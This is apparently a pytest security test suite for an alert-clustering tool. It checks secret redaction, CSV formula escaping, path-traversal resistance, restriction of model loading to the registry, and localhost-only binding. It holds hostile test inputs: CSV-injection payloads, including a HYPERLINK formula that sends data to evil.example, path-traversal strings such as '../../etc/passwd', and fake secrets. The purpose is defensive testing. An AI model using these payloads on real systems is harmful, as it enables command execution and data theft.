"""Security: no secret is logged or stored, CSV outputs are formula-safe and reversible,
no input value becomes a file path, models come only from the configured registry, and
servers listen on 127.0.0.1 only.

The secrets are realistic: Azurite's account key (it really authenticates every request),
a real SAS token signed with it in a graph URL, and fake but well-formed keys and SAS
tokens in the other environment variables. Every place they could end up is searched
byte by byte: process output at DEBUG level, captured log records, every param, tag and
metric key of every MLflow run and model version, the raw ``mlflow.db`` file, every
artifact and every file of the results folders and the scheduler's status and logs.
"""

from __future__ import annotations

import ast
import csv
import inspect
import json
import logging
import os
import re
import signal
import socket
import subprocess
import sys
import time
import urllib.parse
import urllib.request
import uuid
from datetime import UTC, datetime, timedelta
from pathlib import Path

import mlflow
import pandas as pd
import psutil
import pytest
from azure.storage.blob import BlobServiceClient, ContainerSasPermissions, generate_container_sas
from azurite import ACCOUNT, ACCOUNT_KEY, AzuriteServer
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from alertclf import flows, tracking
from alertclf.cli import main
from alertclf.flows import FAULT_ENV, classify, retrain
from alertclf.io.results import FORMULA_TRIGGERS, unescape_cell, write_csv
from alertclf.settings import Settings
from alertclf.simulate import SimulationConfig, simulate, write_simulation

ROOT = Path(__file__).resolve().parents[1]
FAST = {"algorithm": "kmeans", "kmeans_k_min": 4, "kmeans_k_max": 8}
SETTINGS = Settings(**FAST)
CLEAN_ENV = ("MLFLOW_TRACKING_URI", "MLFLOW_RUN_ID", "MLFLOW_EXPERIMENT_ID", FAULT_ENV)

# Fake, well-formed secrets for the variables that are set but not the ones used (a
# connection string wins): they must not leak just because they are in the environment.
FAKE_KEY = "c2VjcmV0LWtleS1kby1ub3QtbG9nLXRoaXMtMDEyMzQ1Njc4OWFiY2RlZjAxMjM0NTY3ODlhYmNkZWY="
FAKE_SAS = (
    "sv=2022-11-02&ss=b&srt=sco&sp=rl&se=2031-01-01T00:00:00Z&st=2024-01-01T00:00:00Z"
    "&spr=https&sig=Zm9vYmFyU2VjcmV0U2lnbmF0dXJlMTIzNDU2Nzg5MA%3D%3D"
)


@pytest.fixture(autouse=True)
def no_azure_settings(monkeypatch, isolated_tracking):
    """Each test decides its own store; no Azure settings leak in or out either."""
    for name in list(os.environ):
        if name.startswith(("AZURE_STORAGE_", "ALERTCLF_AZURE_")):
            monkeypatch.delenv(name)


def child_env(**extra: str) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith(("MLFLOW_", "AZURE_"))}
    env.pop(FAULT_ENV, None)
    env["MLFLOW_DISABLE_TELEMETRY"] = "true"
    env.update(extra)
    return env


@pytest.fixture(scope="module")
def scenario(tmp_path_factory) -> dict[str, Path]:
    out = tmp_path_factory.mktemp("security-scenario")
    return write_simulation(simulate(SimulationConfig(seed=31, days=1.0)), out)


@pytest.fixture(scope="module")
def store(scenario, tmp_path_factory) -> Path:
    """The configured registry: one production model, trained once."""
    models = tmp_path_factory.mktemp("security-models")
    for name in CLEAN_ENV:
        os.environ.pop(name, None)
    tracking._SET_BY_US.clear()
    retrain(SETTINGS, scenario["alerts"], scenario["graph"], models)
    tracking._SET_BY_US.clear()
    os.environ.pop("MLFLOW_TRACKING_URI", None)
    return models


# --- secrets -------------------------------------------------------------------------------------
def secret_forms(secret: str) -> set[str]:
    """A secret as it could appear: raw, URL-encoded and URL-decoded."""
    forms = {secret, urllib.parse.quote(secret, safe=""), urllib.parse.unquote(secret)}
    return {f for f in forms if len(f) >= 8}


def signature(sas: str) -> str:
    return urllib.parse.parse_qs(sas)["sig"][0]


def find_secrets(text: str | bytes, secrets: dict[str, set[str]]) -> list[str]:
    data = text.encode("utf-8", "surrogateescape") if isinstance(text, str) else text
    return [name for name, forms in secrets.items() if any(f.encode() in data for f in forms)]


def context(text: str | bytes, secrets: dict[str, set[str]]) -> str:
    """Where a secret sits, for the failure message (these are test secrets)."""
    data = text.encode("utf-8", "surrogateescape") if isinstance(text, str) else text
    for forms in secrets.values():
        for form in forms:
            at = data.find(form.encode())
            if at >= 0:
                return repr(data[max(0, at - 150) : at + len(form) + 20])
    return ""


def mlflow_texts(models: Path) -> dict[str, str]:
    """Every param, tag and metric key of every run and model version in the store."""
    tracking.configure_tracking(models)
    client = tracking.client()
    texts: dict[str, str] = {}
    experiments = client.search_experiments()
    runs = client.search_runs([e.experiment_id for e in experiments], max_results=1000)
    for run in runs:
        data = run.data
        texts[f"run {run.info.run_id} params"] = json.dumps(data.params)
        texts[f"run {run.info.run_id} tags"] = json.dumps(data.tags)
        texts[f"run {run.info.run_id} metric keys"] = json.dumps(sorted(data.metrics))
        texts[f"run {run.info.run_id} name"] = str(run.info.run_name)
    for model in client.search_registered_models():
        for version in client.search_model_versions(f"name='{model.name}'"):
            texts[f"version {version.version} tags"] = json.dumps(version.tags)
            texts[f"version {version.version} source"] = f"{version.source} {version.description}"
    tracking._SET_BY_US.clear()
    os.environ.pop("MLFLOW_TRACKING_URI", None)
    return texts


def every_file(*roots: Path) -> dict[str, bytes]:
    files = {}
    for root in roots:
        for path in root.rglob("*"):
            if path.is_file():
                files[str(path)] = path.read_bytes()
    return files


def upload(server: AzuriteServer, blobs: dict[str, bytes]) -> None:
    service = BlobServiceClient.from_connection_string(server.connection_string)
    container = service.get_container_client("alerts")
    if not container.exists():
        container.create_container()
    for name, data in blobs.items():
        container.upload_blob(name, data, overwrite=True)


@pytest.mark.slow
@pytest.mark.timeout(900)
def test_secrets_never_reach_logs_mlflow_or_results(
    azurite_server, tmp_path, caplog, monkeypatch, reliability
) -> None:
    case = reliability(
        "security.secrets_never_stored",
        "Azurite's account key in AZURE_STORAGE_CONNECTION_STRING, a real SAS token in the "
        "graph URL, fake keys/SAS in AZURE_STORAGE_KEY/AZURE_STORAGE_SAS_TOKEN; retrain, "
        "classify, validate, the scheduler (--run-once --in-process; with the SAS URL it must "
        "refuse) and two failing runs (missing container, refused key) at DEBUG level, plus "
        "an in-process classify under caplog; then grep (raw, URL-encoded, decoded) the "
        "output, log records, every MLflow param/tag/metric key/version tag, the raw "
        "mlflow.db, every artifact and every file of the results, state, status and "
        "scheduler logs",
    )
    start = (datetime.now(UTC) - timedelta(days=2)).strftime("%Y-%m-%dT%H:%M:%SZ")
    paths = write_simulation(
        simulate(SimulationConfig(seed=8, days=1.5, start=start)), tmp_path / "scenario"
    )
    alerts = pd.read_csv(paths["alerts"], dtype=str, keep_default_na=False)
    ts = pd.to_datetime(alerts["timestamp"], utc=True)
    blobs = {
        f"history/{day}/alerts.csv": rows.to_csv(index=False).encode()
        for day, rows in alerts.groupby(ts.dt.strftime("%Y/%m/%d"))
    }
    blobs["batch/alerts.csv"] = paths["alerts"].read_bytes()
    blobs["graphs/graph.json"] = paths["graph"].read_bytes()
    upload(azurite_server, blobs)
    sas = generate_container_sas(
        ACCOUNT,
        "alerts",
        account_key=ACCOUNT_KEY,
        permission=ContainerSasPermissions(read=True, list=True),
        expiry=datetime.now(UTC) + timedelta(days=1),
    )
    graph_url = f"{azurite_server.blob_endpoint}/alerts/graphs/graph.json?{sas}"
    connection = azurite_server.connection_string
    wrong_key_connection = connection.replace(ACCOUNT_KEY, FAKE_KEY)
    secrets = {
        "account key": secret_forms(ACCOUNT_KEY),
        "connection string": secret_forms(connection),
        "SAS token": secret_forms(sas),
        "SAS signature": secret_forms(signature(sas)),
        "fake key": secret_forms(FAKE_KEY),
        "fake SAS signature": secret_forms(signature(FAKE_SAS)),
    }
    env = child_env(
        AZURE_STORAGE_CONNECTION_STRING=connection,
        AZURE_STORAGE_KEY=FAKE_KEY,
        AZURE_STORAGE_SAS_TOKEN=FAKE_SAS,
        ALERTCLF_AZURE_RETRY_ATTEMPTS="2",
        ALERTCLF_AZURE_RETRY_BASE_DELAY="0.05",
    )
    models, output, scheduled = tmp_path / "models", tmp_path / "results", tmp_path / "sched"
    cli = [sys.executable, "-m", "alertclf.cli"]
    common = ["--log-level", "DEBUG"]
    runs = {
        "retrain": [
            "retrain", "--history", "azure://alerts/history", "--graph", graph_url,
            "--models", str(models), "--algorithm", "kmeans", "--set", "kmeans_k_max=8",
        ],
        "classify": [
            "classify", "--alerts", "azure://alerts/batch", "--graph", graph_url,
            "--output", str(output), "--models", str(models),
        ],
        "validate": [
            "validate", "--alerts", "azure://alerts/batch", "--graph", graph_url,
            "--out", str(tmp_path / "validation"),
        ],
        "scheduler": [
            "run", "--run-once", "--in-process", "--alerts", "azure://alerts/batch",
            "--graph", "azure://alerts/graphs/graph.json", "--output", str(scheduled),
            "--models", str(models),
        ],
        # The scheduler hands locations to `mlflow run`, which stores them as params: it
        # refuses a SAS token in a URL outright.
        "scheduler with SAS URL": [
            "run", "--run-once", "--alerts", "azure://alerts/batch", "--graph", graph_url,
            "--output", str(scheduled), "--models", str(models),
        ],
        "missing container": [
            "classify", "--alerts", "azure://nosuchcontainer/batch", "--graph", graph_url,
            "--output", str(output), "--models", str(models),
        ],
    }  # fmt: skip
    outputs: dict[str, str] = {}
    for name, argv in runs.items():
        done = subprocess.run(
            [*cli, *argv, *common], env=env, capture_output=True, text=True, timeout=300
        )
        outputs[name] = done.stdout + done.stderr
        expected = 2 if name in ("missing container", "scheduler with SAS URL") else 0
        assert done.returncode == expected, f"{name}: {done.stderr[-3000:]}"
        assert "Traceback" not in done.stderr, f"{name}: {done.stderr[-3000:]}"
    refused = subprocess.run(
        [*cli, *runs["classify"], *common],
        env={**env, "AZURE_STORAGE_CONNECTION_STRING": wrong_key_connection},
        capture_output=True,
        text=True,
        timeout=300,
    )
    outputs["refused key"] = refused.stdout + refused.stderr
    assert refused.returncode == 2 and "refused the credentials" in refused.stderr
    assert "Classified" in outputs["classify"] and "PROMOTED" in outputs["retrain"]
    assert "carries a SAS token in its URL" in outputs["scheduler with SAS URL"]

    # In this process too, every logger at DEBUG (the Azure SDK's included).
    for name, value in env.items():
        if name.startswith(("AZURE_", "ALERTCLF_AZURE_")):
            monkeypatch.setenv(name, value)
    caplog.set_level(logging.DEBUG)
    in_process = classify(
        SETTINGS, "azure://alerts/batch", graph_url, tmp_path / "in-process", models
    )
    assert in_process.rows_read == len(alerts)
    log_text = (
        "\n".join(f"{r.name} {r.getMessage()} {r.exc_text or ''}" for r in caplog.records)
        + caplog.text
    )

    places: dict[str, str | bytes] = {f"output of {k}": v for k, v in outputs.items()}
    places["log records"] = log_text
    places.update(mlflow_texts(models))
    places.update(
        every_file(models, output, scheduled, tmp_path / "validation", tmp_path / "in-process")
    )
    leaks = {
        place: found for place, text in places.items() if (found := find_secrets(text, secrets))
    }
    assert not leaks, f"secrets found: {leaks}: " + "; ".join(
        context(places[place], secrets) for place in leaks
    )
    # Not vacuous: the redacted forms are what got recorded.
    params = json.dumps(mlflow_texts(models))
    assert azurite_server.blob_endpoint + "/alerts/graphs/graph.json" in params
    case.figures(
        examples=len(outputs) + 1,
        places_searched=len(places),
        files_searched=sum(1 for p in places if p.startswith("/")),
        bytes_searched=sum(len(v) for v in places.values()),
        secrets=len(secrets),
        leaks=0,
    )


# --- CSV injection -------------------------------------------------------------------------------
PAYLOADS = (
    "=cmd|' /C calc'!A0",
    "+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "<script>alert(1)</script>",
    "two\rlines=1+1",  # a CR inside a value: the row must stay one row
)


def injected_alerts(scenario: dict[str, Path]) -> tuple[pd.DataFrame, pd.DataFrame]:
    """The scenario plus one accepted and one rejected (bad timestamp) alert per payload,
    the payload in every text field."""
    base = pd.read_csv(scenario["alerts"], dtype=str, keep_default_na=False)
    t0 = pd.to_datetime(base["timestamp"], utc=True).max()
    rows = []
    for i, payload in enumerate(PAYLOADS):
        for good in (True, False):
            rows.append(
                {
                    "alert_id": f"{'-' if i % 2 else '+'}inj-{i}-{int(good)}",
                    "timestamp": (t0 - pd.Timedelta(minutes=i)).isoformat() if good else "never",
                    "service": payload,
                    "alert_name": payload + "Alert",
                    "severity": "critical",
                    "status": "firing",
                    "host": payload,
                    "namespace": payload,
                    "cluster": payload,
                    "environment": payload,
                    "description": payload,
                    "labels": payload,
                }
            )
    return base, pd.DataFrame(rows)


def cells(path: Path) -> list[str]:
    with open(path, encoding="utf-8", newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_csv_injection_is_neutralised_in_every_output_and_recoverable(
    scenario, store, tmp_path, reliability
) -> None:
    case = reliability(
        "security.csv_injection",
        "alerts whose id/service/alert_name/host/namespace/cluster/environment/description/"
        "labels start with `=cmd|' /C calc'!A0`, `+1`, `-2+3`, `@SUM(1)`, tab, CR, an "
        "apostrophe, a HYPERLINK formula or a <script> tag, accepted and rejected: no cell of "
        "any CSV (results, validate output, MLflow artifact copies) starts with = + - @ tab CR "
        "unless it is a number; unescape_cell gives back each value exactly (accepted rows as "
        "ingested, rejected rows raw, leading tab/CR included); report.html shows no live tag",
    )
    base, injected = injected_alerts(scenario)
    alerts = tmp_path / "alerts.csv"
    # CRLF lines, so the writer quotes values holding a lone CR (as monitoring exports do).
    pd.concat([base, injected]).to_csv(alerts, index=False, lineterminator="\r\n")
    outcome = classify(SETTINGS, alerts, scenario["graph"], tmp_path / "out", store)
    code = main(
        ["validate", "--alerts", str(alerts), "--graph", str(scenario["graph"]), "--out",
         str(tmp_path / "validation"), "--log-level", "WARNING"]
    )  # fmt: skip
    assert code == 0
    run = mlflow.get_run(outcome.mlflow_run_id)
    artifacts = Path(run.info.artifact_uri.removeprefix("file://")) / "results"
    csv_files = [
        *outcome.results_dir.glob("*.csv"),
        *(tmp_path / "validation").glob("*.csv"),
        *artifacts.glob("*.csv"),
    ]
    # 8 CSVs in the results folder, 6 of them also as artifacts, 2 from validate
    assert len(csv_files) >= 8 + 6 + 2
    checked = 0
    for path in csv_files:
        for cell in cells(path):
            checked += 1
            assert not cell.startswith(FORMULA_TRIGGERS) or is_number(cell), (path.name, cell)

    final = pd.read_csv(
        outcome.results_dir / "alert_consolidation_final.csv", dtype=str, keep_default_na=False
    ).map(unescape_cell)
    assert len(final) == outcome.rows_new == len(base) + len(PAYLOADS)
    final = final.set_index("alert_id")
    rejected = pd.read_csv(
        outcome.results_dir / "rejected_alerts.csv", dtype=str, keep_default_na=False
    ).map(unescape_cell)
    rejected = rejected.set_index("alert_id")
    recovered = 0
    for row in injected.itertuples(index=False):
        if row.timestamp == "never":
            got = rejected.loc[row.alert_id]
            expected = row._asdict()  # rejected rows keep their raw values
        else:
            got = final.loc[row.alert_id]
            expected = {k: str(v).strip() for k, v in row._asdict().items()}
        for column in ("service", "alert_name", "description"):
            assert got[column] == expected[column], (row.alert_id, column, got[column])
            recovered += 1
    html = (outcome.results_dir / "report.html").read_text(encoding="utf-8")
    assert "<script>alert(1)</script>" not in html
    case.figures(
        examples=len(injected),
        alerts_in=outcome.rows_read,
        alerts_accounted=outcome.rows_accepted + outcome.rows_rejected,
        csv_files=len(csv_files),
        cells_checked=checked,
        values_recovered=recovered,
    )


TRIGGERED = st.tuples(
    st.integers(0, 3), st.sampled_from(FORMULA_TRIGGERS), st.text(max_size=6)
).map(lambda t: "'" * t[0] + t[1] + t[2])


@settings(
    max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    values=st.lists(
        st.one_of(
            st.text(st.characters(exclude_categories=("Cs",), exclude_characters="\x00")),
            TRIGGERED,
        ),
        min_size=1,
        max_size=8,
    )
)
def test_written_cells_round_trip_exactly(values: list[str], tmp_path, reliability) -> None:
    """Any text (apostrophes before a trigger included) is written formula-safe and comes
    back exactly through ``unescape_cell``."""
    case = reliability(
        "security.csv_injection_roundtrip",
        "hypothesis: lists of arbitrary text (every Unicode category, CR/LF, quotes) and of "
        "apostrophes + trigger + text: write_csv, csv.reader, unescape_cell gives back every "
        "value exactly and no cell starts with a trigger",
    )
    case.add(examples=1)
    path = tmp_path / "roundtrip.csv"
    write_csv(pd.DataFrame({"value": pd.Series(values, dtype=object)}), path)
    written = cells(path)[1:]
    assert len(written) == len(values)
    for raw, cell in zip(values, written, strict=True):
        assert not cell.startswith(FORMULA_TRIGGERS)
        assert unescape_cell(cell) == raw
    case.add(values_recovered=len(values))


# --- no input value becomes a path ---------------------------------------------------------------
def test_no_input_value_becomes_a_file_path(scenario, tmp_path, capsys, reliability) -> None:
    case = reliability(
        "security.no_path_from_input",
        "alert ids, services, alert names, hosts, namespaces and graph node ids like "
        "`../../etc/passwd`, `/tmp/<sentinel>/x`, `..\\..\\<sentinel>` through a bootstrap "
        "classify, a second classify and validate: every file created lies inside the results, "
        "models or validation folder, with a contract name; nothing appears under the sentinel "
        "or beside the working folders",
    )
    sentinel = f"alertclf-sec-{uuid.uuid4().hex[:12]}"
    hostile = [
        "../../etc/passwd",
        f"../../../../../../tmp/{sentinel}/rel",
        f"/tmp/{sentinel}/abs",
        f"..\\..\\{sentinel}\\win",
        "/dev/null",
        f"~/{sentinel}",
        f"file:///tmp/{sentinel}/uri",
    ]
    root = tmp_path / "root"
    (root / "inputs").mkdir(parents=True)
    base = pd.read_csv(scenario["alerts"], dtype=str, keep_default_na=False)
    t0 = pd.to_datetime(base["timestamp"], utc=True).max()
    rows = [
        {
            "alert_id": value,
            "timestamp": (t0 - pd.Timedelta(seconds=i)).isoformat(),
            "service": value,
            "alert_name": value,
            "host": value,
            "namespace": value,
            "cluster": value,
            "environment": value,
            "description": value,
            "labels": json.dumps({"path": value}),
        }
        for i, value in enumerate(hostile)
    ]
    alerts = root / "inputs" / "alerts.csv"
    pd.concat([base, pd.DataFrame(rows)]).to_csv(alerts, index=False)
    graph = json.loads(scenario["graph"].read_text())
    graph["nodes"] += [{"id": value, "team": value} for value in hostile]
    graph["links"] += [{"source": hostile[0], "target": value} for value in hostile[1:]]
    graph_path = root / "inputs" / "graph.json"
    graph_path.write_text(json.dumps(graph))
    parent_before = sorted(os.listdir(tmp_path))
    root_before = {str(p) for p in root.rglob("*")}
    etc_passwd = os.stat("/etc/passwd").st_mtime_ns

    out, models = root / "results", root / "models"
    classify(SETTINGS, alerts, graph_path, out, models)  # bootstraps a model from the batch
    classify(SETTINGS, alerts, graph_path, out, models)
    assert main(["validate", "--alerts", str(alerts), "--graph", str(graph_path), "--out",
                 str(root / "validation"), "--log-level", "WARNING"]) == 0  # fmt: skip
    capsys.readouterr()

    created = sorted({str(p) for p in root.rglob("*")} - root_before)
    folders = (str(out), str(models), str(root / "validation"))
    allowed = tuple(f + os.sep for f in folders)
    outside = [p for p in created if not p.startswith(allowed) and p not in folders]
    assert not outside, outside
    for path in created:
        assert sentinel not in path and "passwd" not in path, path
    names = {Path(p).name for p in created if p.startswith(str(out)) and Path(p).is_file()}
    assert all(
        re.fullmatch(r"[\w.\-]+", n) and not any(v.split("/")[-1] == n for v in hostile)
        for n in names
    ), names
    assert sorted(os.listdir(tmp_path)) == parent_before
    assert not Path(f"/tmp/{sentinel}").exists()
    assert not (Path.home() / sentinel).exists()
    assert os.stat("/etc/passwd").st_mtime_ns == etc_passwd
    final = pd.concat(
        pd.read_csv(f / "alert_consolidation_final.csv", dtype=str, keep_default_na=False)
        for f in out.iterdir()
        if f.name[:1].isdigit()
    )
    assert set(hostile) <= set(final["alert_id"].map(unescape_cell))
    case.figures(
        examples=len(hostile),
        alerts_in=len(base) + len(rows),
        alerts_accounted=len(final),
        files_created=len(created),
    )


# --- models only from the configured registry ----------------------------------------------------
def test_models_are_loaded_only_from_the_configured_registry(
    scenario, store, tmp_path, monkeypatch, reliability
) -> None:
    case = reliability(
        "security.models_from_registry_only",
        "load_model takes a registered name and an alias or version, never a URI or path; "
        "the only model loads in src/ are that function and the pyfunc's own artifact; "
        "classify with `models:/`, `runs:/`, `file://` and .joblib paths in every alert field "
        "and in graph attributes loads exactly models:/alert-clustering@production of the "
        "configured store; a classify pointed at an empty store, run from the folder of "
        "another store (MLflow's cwd default), refuses instead of using that store's model",
    )
    parameters = list(inspect.signature(tracking.load_model).parameters)
    assert parameters == ["model_name", "alias", "version"]
    # Every direct model loader in src/ sits in the registry module, the pyfunc (its own
    # artifact) or the Spark engine (a models:/ URI of a version resolved by the registry).
    loaders = set()
    for path in sorted((ROOT / "src" / "alertclf").rglob("*.py")):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
                owner, attr = ast.unparse(node.func.value), node.func.attr
                if (owner.startswith("mlflow") and attr in ("load_model", "spark_udf")) or (
                    owner in ("joblib", "skops.io", "cloudpickle") and attr == "load"
                ):
                    loaders.add(path.name)
    assert loaders <= {"tracking.py", "serving.py", "spark_engine.py"}, loaders
    assert {"tracking.py", "serving.py"} <= loaders
    flows_source = inspect.getsource(flows)
    assert "models:/" not in flows_source
    assert "load_model(name, alias=tracking.PRODUCTION)" in flows_source

    evil = [
        "models:/evil@production",
        "runs:/0123456789abcdef/model",
        f"file://{tmp_path}/evil.joblib",
        f"{tmp_path}/evil.joblib",
        "models:/alert-clustering/1",
    ]
    base = pd.read_csv(scenario["alerts"], dtype=str, keep_default_na=False)
    t0 = pd.to_datetime(base["timestamp"], utc=True).max()
    rows = [
        {"alert_id": f"evil-{i}", "timestamp": (t0 - pd.Timedelta(seconds=i)).isoformat(),
         "service": v, "alert_name": v, "description": v, "labels": json.dumps({"model": v})}
        for i, v in enumerate(evil)
    ]  # fmt: skip
    alerts = tmp_path / "alerts.csv"
    pd.concat([base, pd.DataFrame(rows)]).to_csv(alerts, index=False)
    graph = json.loads(scenario["graph"].read_text())
    for node in graph["nodes"]:
        node["model"] = evil[0]
    graph_path = tmp_path / "graph.json"
    graph_path.write_text(json.dumps(graph))

    loaded: list[str] = []
    real = mlflow.pyfunc.load_model

    def spy(model_uri, *args, **kwargs):
        loaded.append(str(model_uri))
        return real(model_uri, *args, **kwargs)

    monkeypatch.setattr(mlflow.pyfunc, "load_model", spy)
    outcome = classify(SETTINGS, alerts, graph_path, tmp_path / "out", store)
    assert loaded == ["models:/alert-clustering@production"]
    assert outcome.metadata["mlflow_tracking_uri"] == f"sqlite:///{store / 'mlflow.db'}"

    empty = tmp_path / "empty-models"
    done = subprocess.run(
        [sys.executable, "-m", "alertclf.cli", "classify", "--alerts", str(alerts), "--graph",
         str(graph_path), "--output", str(tmp_path / "out2"), "--models", str(empty),
         "--no-bootstrap", "--log-level", "WARNING"],
        cwd=store,  # holds mlflow.db: MLflow's own default store for this folder
        env=child_env(),
        capture_output=True,
        text=True,
        timeout=300,
    )  # fmt: skip
    assert done.returncode == 2, done.stderr[-3000:]
    assert "the registry has no 'alert-clustering@production' model" in done.stderr
    assert not (tmp_path / "out2").exists() or not any(
        p.name[:1].isdigit() for p in (tmp_path / "out2").iterdir()
    )
    case.figures(examples=len(evil) + 2, model_loads=len(loaded))


# --- servers on 127.0.0.1 ------------------------------------------------------------------------
def listening(pids: set[int]) -> list[tuple[str, int]]:
    return sorted(
        (c.laddr.ip, c.laddr.port)
        for c in psutil.net_connections(kind="inet")
        if c.status == psutil.CONN_LISTEN and c.pid in pids
    )


def process_tree(pid: int) -> set[int]:
    try:
        parent = psutil.Process(pid)
        return {pid, *(p.pid for p in parent.children(recursive=True))}
    except psutil.NoSuchProcess:
        return set()


@pytest.mark.slow
def test_servers_bind_to_localhost_only(azurite_server, tmp_path, reliability) -> None:
    case = reliability(
        "security.servers_localhost",
        "`make ui` (its recipe, run as is) and the Azurite the tests start: every listening "
        "socket of their process trees is on 127.0.0.1 (psutil); the Makefile, the test "
        "helpers and src/ never name 0.0.0.0 and pass --host/--blobHost 127.0.0.1",
    )
    makefile = (ROOT / "Makefile").read_text()
    ui = makefile.split("\nui:", 1)[1].split("\n\n", 1)[0]
    assert "--host 127.0.0.1" in ui
    helpers = {
        "Makefile": makefile,
        "tests/azurite.py": (ROOT / "tests" / "azurite.py").read_text(),
        "tests/mlflow_server.py": (ROOT / "tests" / "mlflow_server.py").read_text(),
    }
    helpers.update({str(p.relative_to(ROOT)): p.read_text() for p in (ROOT / "src").rglob("*.py")})
    assert not [name for name, text in helpers.items() if "0.0.0.0" in text]
    assert '"--blobHost",\n                "127.0.0.1"' in helpers["tests/azurite.py"]
    assert '"--host", "127.0.0.1"' in helpers["tests/mlflow_server.py"]

    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port = sock.getsockname()[1]
    models = tmp_path / "models"
    models.mkdir()
    dry = subprocess.run(
        ["make", "-s", "-n", "-o", "venv", "ui", f"MODELS={models}", f"UI_PORT={port}"],
        cwd=ROOT,
        capture_output=True,
        text=True,
        check=True,
    )
    command = dry.stdout.split("\n", 1)[1]  # after the echo of the URL
    assert "mlflow server" in command and "--host 127.0.0.1" in command
    server = subprocess.Popen(
        ["bash", "-c", command],
        cwd=ROOT,
        env=child_env(),
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        start_new_session=True,
    )
    try:
        deadline = time.monotonic() + 120
        while time.monotonic() < deadline:
            try:
                with urllib.request.urlopen(f"http://127.0.0.1:{port}/health", timeout=2):
                    break
            except OSError:
                assert server.poll() is None, "make ui's server exited"
                time.sleep(0.5)
        sockets = listening(process_tree(server.pid))
    finally:
        os.killpg(server.pid, signal.SIGKILL)
        server.wait(30)
    assert sockets and ("127.0.0.1", port) in sockets, sockets
    assert all(ip == "127.0.0.1" for ip, _ in sockets), sockets
    azurite_sockets = listening(process_tree(azurite_server.process.pid))
    assert azurite_sockets == [("127.0.0.1", azurite_server.port)], azurite_sockets
    case.figures(examples=2, listening_sockets=len(sockets) + len(azurite_sockets))
